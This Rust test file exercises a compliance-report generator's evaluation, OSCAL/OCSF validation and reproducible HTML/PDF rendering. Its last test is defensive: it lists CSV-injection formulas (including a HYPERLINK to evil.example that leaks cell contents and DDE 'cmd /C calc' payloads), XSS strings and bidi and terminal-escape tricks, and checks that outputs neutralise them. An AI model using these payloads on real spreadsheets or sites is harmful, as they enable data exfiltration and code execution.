//! Report logic on the sample events and on synthetic data: results, exceptions, gaps, and that
//! every output is byte-identical when rendered twice.

use attest_report_samples as sample;
use attest_reports::evaluate::{evaluate, Standing};
use attest_reports::render::render_all;
use attest_reports::ControlOutcome;

#[test]
fn sample_pci_report_has_failures_exceptions_and_gaps() {
    let snapshot = sample::from_events("PCI-DSS-3.2.1").unwrap();
    snapshot.check().unwrap();
    let report = evaluate(&snapshot);
    let s = &report.summary;
    println!("{}", serde_json::to_string_pretty(&s).unwrap());
    assert_eq!(s.controls_in_scope as usize, report.controls.len());
    assert!(s.failed + s.partial > 0, "the sample has failing resources");
    assert!(s.gaps > 0, "most PCI controls have no sample evidence");
    let gap = report.controls.iter().find(|c| c.gap).unwrap();
    assert_eq!(gap.outcome, ControlOutcome::NotAssessed);
    assert_eq!(
        s.passed + s.failed + s.partial + s.not_assessed,
        s.controls_in_scope
    );
}

#[test]
fn suppressed_findings_and_register_entries_are_exceptions_and_expired_ones_fail() {
    // All frameworks the sample touches, so every sample finding is seen by some report.
    let mut seen_in_force = false;
    let mut seen_expired = false;
    for framework in [
        "PCI-DSS-3.2.1",
        "SOC2",
        "CIS-AWS-1.4",
        "HIPAA",
        "GDPR",
        "CIS-AWS-3.0",
    ] {
        let report = evaluate(&sample::from_events(framework).unwrap());
        for x in &report.exceptions {
            let r = report
                .controls
                .iter()
                .flat_map(|c| &c.resources)
                .find(|r| r.evaluation.state_id == x.state_id)
                .unwrap();
            match x.state {
                "IN_FORCE" => {
                    seen_in_force = true;
                    assert_eq!(r.standing, Standing::Exception, "{x:?}");
                }
                "EXPIRED" => {
                    seen_expired = true;
                    assert_eq!(r.standing, Standing::Fail, "{x:?}");
                    assert_eq!(x.id, "EXC-2026-002");
                }
                other => panic!("state {other}"),
            }
            assert!(!x.owner.is_empty() && !x.rationale.is_empty() && !x.expires.is_empty());
        }
        // Nothing suppressed is ever counted as a pass.
        for c in &report.controls {
            for r in &c.resources {
                if r.exception.is_some() {
                    assert_ne!(r.standing, Standing::Pass);
                }
            }
        }
    }
    assert!(seen_in_force && seen_expired);
}

#[test]
fn synthetic_report_counts_add_up_and_renders_identically_twice() {
    let snapshot = sample::synthetic(200, 15_000);
    snapshot.check().unwrap();
    let report = evaluate(&snapshot);
    let s = &report.summary;
    assert_eq!(s.controls_in_scope, 200);
    assert_eq!(s.gaps, 4);
    let listed: usize = report.controls.iter().map(|c| c.evidence.len()).sum();
    assert_eq!(listed, snapshot.evidence.len());
    let first = render_all(&snapshot).unwrap();
    let second = render_all(&sample::synthetic(200, 15_000)).unwrap();
    assert_eq!(first.len(), second.len());
    for (a, b) in first.iter().zip(&second) {
        assert_eq!(a.name, b.name);
        assert!(a.bytes == b.bytes, "{} differs between runs", a.name);
    }
}

// Standard outputs for GRC tools, each checked by an implementation that is not ours: OSCAL with
// compliance-trestle's models, OCSF with a checker written from the OCSF 1.3.0 schema.

const OSCAL_OUTPUT: &str = "oscal-assessment-results.json";
const OCSF_OUTPUT: &str = "ocsf-compliance-findings.jsonl";

/// The pinned Python (with compliance-trestle) that `make test` exports. Unset means the check
/// cannot run, which must fail loudly rather than pass without checking anything.
fn attest_python() -> String {
    match std::env::var("ATTEST_PYTHON") {
        Ok(python) if !python.is_empty() => python,
        _ => panic!(
            "ATTEST_PYTHON is not set: run this test via `make test`, which creates .venv with \
             compliance-trestle and exports ATTEST_PYTHON (or set ATTEST_PYTHON=$PWD/.venv/bin/python)"
        ),
    }
}

fn validate(script: &str, files: &[std::path::PathBuf]) -> std::process::Output {
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../scripts")
        .join(script);
    std::process::Command::new(attest_python())
        .arg(&script)
        .args(files)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}", script.display()))
}

fn scratch(name: &str) -> std::path::PathBuf {
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn output_bytes(snapshot: &attest_reports::Snapshot, name: &str) -> Vec<u8> {
    render_all(snapshot)
        .unwrap()
        .into_iter()
        .find(|o| o.name == name)
        .unwrap_or_else(|| panic!("no output {name}"))
        .bytes
}

#[test]
fn oscal_and_ocsf_outputs_pass_independent_validators() {
    let dir = scratch("grc-outputs");
    let mut snapshots: Vec<(String, attest_reports::Snapshot)> =
        ["PCI-DSS-3.2.1", "SOC2", "HIPAA", "CIS-AWS-1.4", "GDPR"]
            .into_iter()
            .map(|fw| (fw.to_string(), sample::from_events(fw).unwrap()))
            .collect();
    snapshots.push(("synthetic".to_string(), sample::synthetic(40, 800)));
    let (mut oscal, mut ocsf) = (Vec::new(), Vec::new());
    for (label, snapshot) in &snapshots {
        let outputs = render_all(snapshot).unwrap();
        for (name, list) in [(OSCAL_OUTPUT, &mut oscal), (OCSF_OUTPUT, &mut ocsf)] {
            let output = outputs.iter().find(|o| o.name == name).unwrap();
            let path = dir.join(format!("{label}-{name}"));
            std::fs::write(&path, &output.bytes).unwrap();
            list.push(path);
        }
    }
    for (script, files) in [("validate_oscal.py", &oscal), ("validate_ocsf.py", &ocsf)] {
        let run = validate(script, files);
        let stdout = String::from_utf8_lossy(&run.stdout);
        let stderr = String::from_utf8_lossy(&run.stderr);
        println!("{script}:\n{stdout}{stderr}");
        assert!(
            run.status.success(),
            "{script} rejected the outputs:\n{stderr}"
        );
        assert_eq!(stdout.lines().count(), files.len(), "{stdout}");
    }
}

/// The validators are worth running only if they reject what is wrong: break rendered documents in
/// ways a renderer bug could, and expect each file to be named as invalid.
#[test]
fn validators_reject_broken_outputs() {
    let dir = scratch("grc-broken");
    let snapshot = sample::from_events("PCI-DSS-3.2.1").unwrap();

    let oscal: serde_json::Value =
        serde_json::from_slice(&output_bytes(&snapshot, OSCAL_OUTPUT)).unwrap();
    type Break = fn(&mut serde_json::Value);
    let oscal_breaks: [(&str, Break); 4] = [
        ("no-import-ap", |d| {
            d["assessment-results"]
                .as_object_mut()
                .unwrap()
                .remove("import-ap");
        }),
        ("bad-state", |d| {
            d["assessment-results"]["results"][0]["findings"][0]["target"]["status"]["state"] =
                "passed".into();
        }),
        ("numeric-control-id", |d| {
            d["assessment-results"]["results"][0]["reviewed-controls"]["control-selections"][0]
                ["include-controls"][0]["control-id"] = "1.2.3".into();
        }),
        ("dangling-observation", |d| {
            d["assessment-results"]["results"][0]["findings"][0]["related-observations"] =
                serde_json::json!([{"observation-uuid": "00000000-0000-4000-8000-000000000000"}]);
        }),
    ];
    let mut files = Vec::new();
    for (label, edit) in oscal_breaks {
        let mut doc = oscal.clone();
        edit(&mut doc);
        let path = dir.join(format!("{label}.json"));
        std::fs::write(&path, serde_json::to_vec(&doc).unwrap()).unwrap();
        files.push(path);
    }
    let run = validate("validate_oscal.py", &files);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(!run.status.success(), "broken OSCAL accepted:\n{stderr}");
    for f in &files {
        assert!(
            stderr.contains(&*f.to_string_lossy()),
            "{} not reported:\n{stderr}",
            f.display()
        );
    }
    assert!(stderr.contains("import-ap"), "{stderr}");

    let ocsf = output_bytes(&snapshot, OCSF_OUTPUT);
    let first: serde_json::Value =
        serde_json::from_slice(ocsf.split(|b| *b == b'\n').next().unwrap()).unwrap();
    let ocsf_breaks: [(&str, Break); 4] = [
        ("no-class-uid", |e| {
            e.as_object_mut().unwrap().remove("class_uid");
        }),
        ("bad-status-id", |e| e["compliance"]["status_id"] = 7.into()),
        ("bad-type-uid", |e| e["type_uid"] = 200302.into()),
        ("seconds-not-ms", |e| e["time"] = 1_796_104_800.into()),
    ];
    let mut files = Vec::new();
    for (label, edit) in ocsf_breaks {
        let mut event = first.clone();
        edit(&mut event);
        let mut bytes = serde_json::to_vec(&event).unwrap();
        bytes.push(b'\n');
        let path = dir.join(format!("{label}.jsonl"));
        std::fs::write(&path, bytes).unwrap();
        files.push(path);
    }
    let unterminated = dir.join("unterminated.jsonl");
    std::fs::write(&unterminated, ocsf.strip_suffix(b"\n").unwrap()).unwrap();
    files.push(unterminated);
    let run = validate("validate_ocsf.py", &files);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(!run.status.success(), "broken OCSF accepted:\n{stderr}");
    for f in &files {
        assert!(
            stderr.contains(&*f.to_string_lossy()),
            "{} not reported:\n{stderr}",
            f.display()
        );
    }
}

#[test]
fn html_and_pdf_are_byte_identical_across_renders() {
    use attest_reports::render::{html, pdf};
    for snapshot in [
        sample::from_events("PCI-DSS-3.2.1").unwrap(),
        sample::synthetic(20, 300),
    ] {
        // Two evaluations, so nothing is shared between the renders but the snapshot's content.
        let first = evaluate(&snapshot);
        let second = evaluate(&snapshot.clone());
        assert!(html::render(&first).unwrap() == html::render(&second).unwrap());
        let a = pdf::render(&first).unwrap();
        let b = pdf::render(&second).unwrap();
        assert!(a == b, "report.pdf differs between renders");
        assert!(a.starts_with(b"%PDF-1.7"));
        // The only date in the file is the report's own recorded time.
        let text = String::from_utf8_lossy(&a);
        assert!(
            text.contains("/CreationDate(D:20261201060000"),
            "CreationDate not from generated_at"
        );
    }
}

/// The PDF as a reader sees it: rendered and text-extracted by PDFium (not by our code), every page
/// checked for overflow into the margins, colliding text, blank pages and "Page N of M"
/// (scripts/check_pdf_look.py). PNGs of every page are left in the target's tmp dir to look at.
#[test]
fn pdf_reads_right_in_pdfium() {
    use attest_reports::render::pdf;
    use std::path::Path;
    use std::process::Command;

    let python = std::env::var("ATTEST_PYTHON").unwrap_or_else(|_| {
        panic!(
            "ATTEST_PYTHON is not set: run this test via `make test`, which exports the project's \
             .venv Python (with pypdfium2 from requirements-dev.txt)"
        )
    });
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("pdf-look");
    std::fs::create_dir_all(&dir).unwrap();
    let cases = [
        ("sample-pci", sample::from_events("PCI-DSS-3.2.1").unwrap()),
        ("synthetic-30x600", sample::synthetic(30, 600)),
    ];
    for (name, snapshot) in cases {
        let report = evaluate(&snapshot);
        let path = dir.join(format!("{name}.pdf"));
        std::fs::write(&path, pdf::render(&report).unwrap()).unwrap();
        let mut expect = vec![
            report.framework.name.clone(),
            report.header.run_id.clone(),
            report.header.template_version.clone(),
            "Exceptions register".to_string(),
        ];
        if report.summary.gaps > 0 {
            expect.push("GAP: no evidence in period".to_string());
        }
        // First and last evidence rows: keys and hashes survive wrapping and page breaks.
        let evidence: Vec<_> = report.controls.iter().flat_map(|c| &c.evidence).collect();
        for e in [evidence.first(), evidence.last()].into_iter().flatten() {
            expect.push(e.sha256.clone());
            expect.push(e.key.clone());
        }
        let mut command = Command::new(&python);
        command
            .arg(root.join("scripts/check_pdf_look.py"))
            .arg(&path)
            .arg("--png-dir")
            .arg(dir.join(name));
        for text in &expect {
            command.arg("--expect").arg(text);
        }
        let out = command.output().unwrap();
        assert!(
            out.status.success(),
            "look check failed for {name} ({}):\n{}{}",
            path.display(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

/// The report, snapshot and manifest are written by the RFC 8785 writer directly from their
/// structs (no JSON text and value tree in between, and no document-size limit: a large report's
/// JSON outgrows the limit on documents read). That must give exactly the bytes of the round trip
/// through serde_json that evidence uses, or re-rendering an older bundle would not reproduce it.
#[test]
fn report_documents_written_directly_match_the_round_trip() {
    use attest_domain::canonical::{serialize, to_vec};
    for snapshot in [
        sample::from_events("PCI-DSS-3.2.1").unwrap(),
        sample::from_events("SOC2").unwrap(),
        sample::synthetic(40, 2_000),
    ] {
        let report = evaluate(&snapshot);
        assert!(to_vec(&report).unwrap() == serialize(&report).unwrap());
        assert!(to_vec(&snapshot).unwrap() == serialize(&snapshot).unwrap());
        assert_eq!(
            snapshot.to_canonical().unwrap(),
            serialize(&snapshot).unwrap()
        );
        let outputs = render_all(&snapshot).unwrap();
        let manifest = attest_reports::manifest::Manifest::build(
            &snapshot,
            &snapshot.to_canonical().unwrap(),
            &outputs,
            attest_reports::manifest::SigningKey::from_arn(
                "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab",
            )
            .unwrap(),
        );
        assert_eq!(
            manifest.to_canonical().unwrap(),
            serialize(&manifest).unwrap()
        );
        // Each OSCAL observation and OCSF line is written the same way: the whole files equal
        // their canonical re-reading.
        for output in outputs {
            match output.name {
                OSCAL_OUTPUT => assert!(
                    attest_domain::canonical::canonicalize_json(&output.bytes).unwrap()
                        == output.bytes
                ),
                OCSF_OUTPUT => {
                    for line in output
                        .bytes
                        .split(|b| *b == b'\n')
                        .filter(|l| !l.is_empty())
                    {
                        assert!(attest_domain::canonical::canonicalize_json(line).unwrap() == line);
                    }
                }
                _ => {}
            }
        }
    }
}

/// Attacker-controlled text (a resource id, a rule name, a control title from a tampered
/// catalogue) must stay text in every output: the OWASP CSV-injection triggers, markup, a bidi
/// override, terminal control characters, and a 100 KB name.
#[test]
fn hostile_strings_stay_text_in_every_output() {
    let hostile: Vec<String> = vec![
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into(),
        "+cmd|' /C calc'!A0".into(),
        "-2+3+cmd|' /C calc'!A0".into(),
        "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        "\t=1+1".into(),
        "\r=1+1".into(),
        "<script>alert(1)</script>".into(),
        "\"><img src=x onerror=alert(1)>".into(),
        "bucket-\u{202E}fdp.exe".into(),
        "bell\u{7}esc\u{1b}[31mred\u{0}nul".into(),
        "A".repeat(100_000),
    ];
    let mut snapshot = sample::synthetic(12, 120);
    for (i, item) in snapshot.evidence.iter_mut().enumerate() {
        if let Some(e) = item.evaluation.as_mut() {
            let h = &hostile[i % hostile.len()];
            e.subject.resource_id = h.clone();
            e.subject.rule_id = hostile[(i + 3) % hostile.len()].clone();
        }
    }
    for (i, c) in snapshot.controls.iter_mut().enumerate() {
        c.title = hostile[i % hostile.len()].clone();
    }
    let outputs = render_all(&snapshot).expect("hostile strings still render");
    let bytes = |name: &str| {
        outputs
            .iter()
            .find(|o| o.name == name)
            .unwrap_or_else(|| panic!("no {name}"))
            .bytes
            .clone()
    };

    // CSV: no cell a spreadsheet would evaluate; the neutralised cell is the original after `'`.
    let csv = bytes("report.csv");
    let mut cells = 0;
    for record in csv::Reader::from_reader(csv.as_slice()).records() {
        for cell in record.expect("a CSV record").iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "active CSV cell {:?}",
                &cell[..cell.len().min(40)]
            );
            if let Some(original) = cell.strip_prefix('\'') {
                assert!(hostile.iter().any(|h| h == original), "{cell:?}");
                cells += 1;
            }
        }
    }
    assert!(cells > 0, "the corpus reached the CSV");

    // JSON outputs keep the exact strings (the JSON report is what verify compares).
    let report: serde_json::Value = serde_json::from_slice(&bytes("report.json")).unwrap();
    let text = report.to_string();
    let json_of = |s: &str| serde_json::to_string(s).unwrap();
    for h in &hostile {
        assert!(
            text.contains(json_of(h).trim_matches('"')),
            "report.json lost {:?}",
            &h[..h.len().min(40)]
        );
    }
    serde_json::from_slice::<serde_json::Value>(&bytes(OSCAL_OUTPUT)).expect("OSCAL is JSON");
    for line in bytes(OCSF_OUTPUT)
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
    {
        serde_json::from_slice::<serde_json::Value>(line).expect("each OCSF line is JSON");
    }

    // HTML: markup from evidence is escaped; bidi overrides are isolated per cell by the CSS.
    let html = String::from_utf8(bytes("report.html")).unwrap();
    assert!(!html.contains("<script"), "a script element in the HTML");
    assert!(!html.contains("<img"), "an img element in the HTML");
    assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"));
    assert!(
        html.contains("unicode-bidi: isolate"),
        "cells isolate bidi text"
    );

    let pdf = bytes("report.pdf");
    assert!(pdf.starts_with(b"%PDF-"), "the PDF renders");
}
